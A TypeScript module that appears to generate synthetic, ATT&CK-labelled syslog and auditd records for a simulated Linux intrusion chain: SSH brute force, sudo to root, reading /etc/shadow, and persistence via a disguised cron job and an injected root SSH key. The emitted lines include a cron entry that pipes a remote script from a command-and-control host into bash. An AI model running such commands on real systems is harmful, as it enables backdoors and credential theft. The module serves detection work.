import { hostOf } from '../benign/context';
import { cronRun } from '../benign/linux';
import { auditEvent, execParts, fileWriteParts, pamPart } from '../emit/auditd';
import { Facility, Severity, syslogLine } from '../emit/syslog';
import { at, label, type ChainCtx } from './chain';

/** Linux chain: SSH password guessing, sudo to root, cron and authorized_keys persistence. */
export function linuxChain(c: ChainCtx): void {
  const { rng, sink, world } = c;
  const host = hostOf(c, 'bastion-01');
  const ip = world.adversary.sshIp;
  const user = 'deploy';
  const uid = 1001;
  const brute = label(c, 1, 'T1110.001', 'credential-access');
  const attempts = rng.int(25, 40);
  for (let i = 0; i < attempts; i++) {
    const t = at(c, i * (12 / attempts));
    const pid = rng.int(200_000, 400_000);
    const port = rng.int(30_000, 65_000);
    const ok = i === attempts - 1;
    const pre = { pid, uid: 0, auid: 4294967295, ses: 4294967295 };
    if (ok) {
      sink.add(t, 'syslog', syslogLine(host, t, { facility: Facility.authpriv, severity: Severity.info, app: 'sshd', pid, msg: `Accepted password for ${user} from ${ip} port ${port} ssh2` }), brute);
      sink.add(t, 'auditd', auditEvent(host, t, [pamPart('USER_AUTH', pre, 'PAM:authentication grantors=pam_unix', user, '/usr/sbin/sshd', ip, 'ssh', true)]), brute);
      sink.add(t + 50, 'auditd', auditEvent(host, t + 50, [['USER_LOGIN', `pid=${pid} uid=0 auid=${uid} ses=7311 subj=unconfined msg='op=login id=${uid} exe="/usr/sbin/sshd" hostname=? addr=${ip} terminal=/dev/pts/1 res=success'`]]), brute);
      sink.add(t + 60, 'syslog', syslogLine(host, t + 60, { facility: Facility.authpriv, severity: Severity.info, app: 'sshd', pid, msg: `pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)` }), brute);
    } else {
      sink.add(t, 'syslog', syslogLine(host, t, { facility: Facility.authpriv, severity: Severity.info, app: 'sshd', pid, msg: `Failed password for ${user} from ${ip} port ${port} ssh2` }), brute);
      sink.add(t, 'auditd', auditEvent(host, t, [pamPart('USER_AUTH', pre, 'PAM:authentication grantors=?', user, '/usr/sbin/sshd', ip, 'ssh', false)]), brute);
    }
  }
  const ses = 7311;
  const sudo = label(c, 2, 'T1548.003', 'privilege-escalation');
  const t1 = at(c, 16);
  sink.add(t1, 'syslog', syslogLine(host, t1, { facility: Facility.authpriv, severity: Severity.notice, app: 'sudo', msg: `${user} : TTY=pts/1 ; PWD=/home/${user} ; USER=root ; COMMAND=/bin/bash` }), sudo);
  sink.add(t1, 'auditd', auditEvent(host, t1, [['USER_CMD', `pid=${rng.int(200_000, 400_000)} uid=${uid} auid=${uid} ses=${ses} subj=unconfined msg='cwd="/home/${user}" cmd=2F62696E2F62617368 exe="/usr/bin/sudo" terminal=pts/1 res=success'`]]), sudo);
  const rootShell = { pid: rng.int(200_000, 400_000), ppid: 1, uid: 0, euid: 0, auid: uid, ses, tty: 'pts1' };
  const t2 = at(c, 17);
  sink.add(t2, 'auditd', auditEvent(host, t2, execParts(rootShell, '/usr/bin/id', ['id'], '/root')), label(c, 2, 'T1033', 'discovery'));
  sink.add(t2 + 4_000, 'auditd', auditEvent(host, t2 + 4_000, execParts(rootShell, '/usr/bin/cat', ['cat', '/etc/shadow'], '/root')), label(c, 2, 'T1003.008', 'credential-access'));
  const cron = label(c, 3, 'T1053.003', 'persistence');
  const payload = `*/10 * * * * root curl -fsSL http://${world.adversary.c2Ip}/k.sh | bash`;
  const t3 = at(c, 25);
  sink.add(t3, 'auditd', auditEvent(host, t3, execParts(rootShell, '/usr/bin/bash', ['bash', '-c', `echo '${payload}' > /etc/cron.d/apt-compat-check`], '/root', 'cron')), cron);
  sink.add(t3 + 30_000, 'syslog', syslogLine(host, t3 + 30_000, { facility: Facility.cron, severity: Severity.info, app: 'cron', pid: 812, msg: '(*system*apt-compat-check) RELOAD (/etc/cron.d/apt-compat-check)' }), cron);
  const keys = label(c, 4, 'T1098.004', 'persistence');
  const t4 = at(c, 32);
  sink.add(t4, 'auditd', auditEvent(host, t4, execParts(rootShell, '/usr/bin/bash', ['bash', '-c', `echo '${world.adversary.sshKey}' >> /root/.ssh/authorized_keys`], '/root', 'ssh_keys')), keys);
  sink.add(t4 + 5, 'auditd', auditEvent(host, t4 + 5, fileWriteParts(rootShell, '/usr/bin/bash', '/root/.ssh/authorized_keys', 'ssh_keys')), keys);
  // The implanted job fires on the next 10-minute boundary inside the chain.
  const fire = Math.ceil((t3 + 60_000) / 600_000) * 600_000;
  if (fire < at(c, 50)) {
    const before = c.sink.drafts.length;
    cronRun(c, host, fire, `curl -fsSL http://${world.adversary.c2Ip}/k.sh | bash`);
    for (const d of c.sink.drafts.slice(before)) d.label = label(c, 3, 'T1053.003', 'persistence');
  }
}
